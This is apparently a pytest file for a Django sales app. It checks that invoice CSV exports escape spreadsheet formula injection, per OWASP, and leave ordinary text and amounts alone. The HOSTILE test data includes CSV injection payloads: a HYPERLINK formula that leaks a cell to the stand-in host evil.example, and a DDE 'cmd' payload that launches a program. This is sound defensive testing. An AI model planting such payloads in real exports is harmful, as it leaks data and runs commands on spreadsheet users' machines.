"""CSV the project writes: text that a spreadsheet would run as a formula is neutralised (OWASP's CSV
injection rule), through both of the invoice grid's exports; ordinary text and amounts are left alone."""

import csv
import io
from decimal import Decimal

import pytest

from sales.csv_export import FORMULA_STARTS, csv_cell, csv_lines
from sales.services import invoice_order
from tests.conftest import load_seed_order
from tests.factories import staff_client

pytestmark = pytest.mark.django_db

GRID = "/admin/sales/invoice/"

# What the hostile probe typed into an order's billing name, street and city.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "@SUM(1+1)",
)


@pytest.fixture
def manager(client, db):
    return staff_client(client, "Sales manager")


def toolbar_export(client, invoice):
    return client.get(GRID, {"_export": "csv"})


def action_export(client, invoice):
    return client.post(GRID, {"action": "export_csv", "_selected_action": [invoice.pk]})


def exported(response) -> tuple[str, list[dict]]:
    text = b"".join(response.streaming_content).decode()
    return text, list(csv.DictReader(io.StringIO(text)))


def seed_invoice_with(import_order, value: str | None = None):
    """Seed 000 (Roni Cost in Calder, Michigan), the value typed as the customer's and the billing first
    name, street and city when given."""
    seed = load_seed_order("000")
    if value is None:
        return invoice_order(order_id=import_order(seed).pk)
    billing = {**seed["entity"]["billing_address"], "firstname": value, "street": [value], "city": value}
    return invoice_order(order_id=import_order(seed, billing_address=billing, customer_firstname=value).pk)


@pytest.mark.parametrize("export", [toolbar_export, action_export], ids=["toolbar", "action"])
@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_that_start_a_formula_are_neutralised(manager, import_order, export, value):
    invoice = seed_invoice_with(import_order, value)

    _text, [row] = exported(export(manager, invoice))

    assert row["Bill-to Name"] == f"'{value} Cost"
    assert row["Customer Name"] == f"'{value} {invoice.order.customer_lastname}"
    # The city stays inside the address cell (quoted as one cell), after the neutralised street.
    assert row["Billing Address"] == f"'{value}, {value}, Michigan, 49628-7978"


@pytest.mark.parametrize("export", [toolbar_export, action_export], ids=["toolbar", "action"])
def test_csv_export_leaves_ordinary_text_and_amounts_unchanged(manager, import_order, export):
    invoice = seed_invoice_with(import_order)

    text, [row] = exported(export(manager, invoice))

    assert row["Bill-to Name"] == "Roni Cost"
    assert row["Billing Address"] == "6146 Honey Bluff Parkway, Calder, Michigan, 49628-7978"
    amounts = [
        f"{invoice.base_grand_total:.2f}",
        f"{invoice.grand_total:.2f}",
        f"{invoice.base_subtotal:.2f}",
        f"{invoice.base_shipping_amount:.2f}",
    ]
    assert [
        row["Grand Total (Base)"],
        row["Grand Total (Purchased)"],
        row["Subtotal"],
        row["Shipping and Handling"],
    ] == amounts
    # Written bare, not as quoted text: a spreadsheet reads them as numbers it can sum.
    assert f',{amounts[0]},"USD",{amounts[1]},"USD",' in text


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_of_owasps_list_is_neutralised(start):
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


def test_amounts_the_project_writes_stay_numbers_even_when_negative():
    line = next(csv_lines([[Decimal("-5.00"), 3, "-5.00", "Roni Cost", None]]))

    # The Decimal and the int are numbers the project computed; the same "-5.00" typed as text is neutralised.
    assert line == '-5.00,3,"\'-5.00","Roni Cost",""\r\n'


def test_a_separator_inside_text_never_starts_a_new_cell():
    line = next(csv_lines([["Calder;=1+1", 'Roni "R" Cost,=1+1']]))

    # Every text cell is quoted, so neither a ";" (some locales' separator) nor a "," starts a cell.
    assert line == '"Calder;=1+1","Roni ""R"" Cost,=1+1"\r\n'
